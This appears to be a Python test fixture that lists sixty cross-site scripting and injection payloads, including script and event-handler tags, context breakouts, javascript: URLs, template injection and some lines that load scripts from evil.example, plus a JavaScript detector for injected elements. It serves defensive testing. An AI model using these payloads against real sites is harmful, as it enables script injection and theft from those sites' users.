"""Sixty texts that become something else wherever a text is taken for markup, script, style, address or template.

Each that succeeds sets `window.pwned`, asks in a dialog, or leaves an element that the pages do not have.
"""

from typing import Final

_RUN: Final = "window.pwned=1"

PAYLOADS: Final = (
    # Elements that run something by being there.
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}" alt=">">',
    f"<img/src=x/onerror={_RUN}//",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=javascript:{_RUN}>",
    "<base href=//evil.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<button popovertarget=x onbeforetoggle={_RUN}>x</button><div popover id=x>y</div>",
    # Ways out of where a text stands.
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    # Addresses.
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript://example.com/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"[click](javascript:{_RUN})",
    f"![x](x onerror={_RUN})",
    f"<a href=javascript:{_RUN}>click</a>",
    f'<a href="https://example.com" onclick="{_RUN}">click</a>',
    "//evil.example/%2e%2e",
    # Templates, scripts in quotes, and names that objects have already.
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};`",
    "__proto__",
    "constructor",
    # What looks like something else than it is.
    f"\u202e>1=denwp.wodniw=rorreno x=crs gmi< \u2066&lt;img src=x onerror={_RUN}&gt;",
)
assert len(set(PAYLOADS)) == 60

ALL_OF_THEM: Final = " ".join(PAYLOADS)

INTRUDERS: Final = """() => {
  const found = [];
  if (window.pwned !== undefined) found.push("a script ran");
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`<${element.localName} ${name}=${value}>`);
      if (/^(href|src|action|formaction|data)$/i.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value)) {
        found.push(`<${element.localName} ${name}=${value}>`);
      }
    }
  }
  const strange = "script:not([src^='/assets/']), style, base, meta[http-equiv], iframe, object, embed, marquee, " +
    "video, audio, math, div noscript, template, link[href*='evil'], img[src='x']";
  for (const element of document.querySelectorAll(strange)) found.push(element.outerHTML.slice(0, 200));
  return found;
}"""
"""What is on a page that no page of ours has."""
